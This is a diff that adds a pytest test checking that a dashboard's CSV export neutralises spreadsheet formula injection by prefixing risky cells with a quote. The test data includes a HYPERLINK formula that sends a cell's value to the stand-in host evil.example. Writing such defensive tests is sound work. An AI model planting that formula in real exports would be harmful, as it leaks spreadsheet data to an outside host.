@@ -9,6 +9,7 @@ from typing import Any
 
 import pytest
 
+from models import Activity, Person
 from tests.conftest import People
 from tests.dashboard_data import CLOSED, PP, RTC, TG, TT, WD, DataSet, build_data_set
 from workflows.stages import Role
@@ -181,6 +182,24 @@ async def test_upcoming_merges_stage_deadlines_meetings_and_document_deadlines(
     assert [(r["date"], r["kind"], int(r["days_left"])) for r in rows] == [
         (i["date"], i["kind"], i["days_left"]) for i in body["items"]
     ]
+
+
+async def test_csv_exports_never_hand_a_spreadsheet_a_formula(client, db, data: DataSet, headers) -> None:
+    """OWASP CSV injection: text starting with = + - @ tab or CR is prefixed with a quote; numbers
+    (negative ones too) stay numbers."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+    async with db() as session, session.begin():
+        activity = await session.get_one(Activity, data["a1"])
+        activity.title = formula
+        lead = await session.get_one(Person, data.alice_id)
+        lead.name = "@SUM(1+1)"
+    rows = await get_csv(client, "/dashboard/overdue", headers, as_of="2026-03-30")
+    row = next(r for r in rows if int(r["id"]) == data["a1"])
+    assert row["title"] == "'" + formula
+    assert row["lead_name"] == "'@SUM(1+1)"
+    assert int(row["days_overdue"]) == 7
+    body = await get_json(client, "/dashboard/overdue", headers, as_of="2026-03-30")
+    assert formula in [item["title"] for item in body["items"]]  # JSON keeps the text as written
 
 
 # --- stage times --------------------------------------------------------------------------------
